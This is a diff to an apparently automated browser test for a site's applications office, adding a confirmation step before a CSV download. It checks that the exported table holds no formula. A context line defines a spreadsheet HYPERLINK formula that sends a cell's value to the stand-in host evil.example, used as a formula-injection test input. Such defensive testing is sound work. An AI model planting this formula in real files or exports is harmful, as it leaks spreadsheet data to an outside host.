@@ -7,7 +7,7 @@ import { submitLogin } from '../support/account-forms.ts';
 import { pdf, png } from '../support/applications.ts';
 import { apply, counsellorMoves } from '../support/applications-browser.ts';
 import { both, expect, test } from '../support/browser.ts';
-import { expectUsable, openOffice } from '../support/office-browser.ts';
+import { confirmYou, expectUsable, openOffice } from '../support/office-browser.ts';
 import { mailSaying } from '../support/site-mail.ts';
 
 const FORMULA = '=HYPERLINK("https://evil.example?x="&A1,"click")';
@@ -226,6 +226,7 @@ test('a table of what is found is downloaded, and holds no formula', async ({ pa
   await expect(page.getByText('1 application', { exact: true })).toBeVisible();
   const arriving = page.waitForEvent('download');
   await press(page, 'Download as CSV');
+  await confirmYou(page);
   const arrived = await arriving;
   expect(arrived.suggestedFilename()).toMatch(/^applications-\d{4}-\d\d-\d\d\.csv$/);
   const text = await fs.readFile(await arrived.path(), 'utf8');
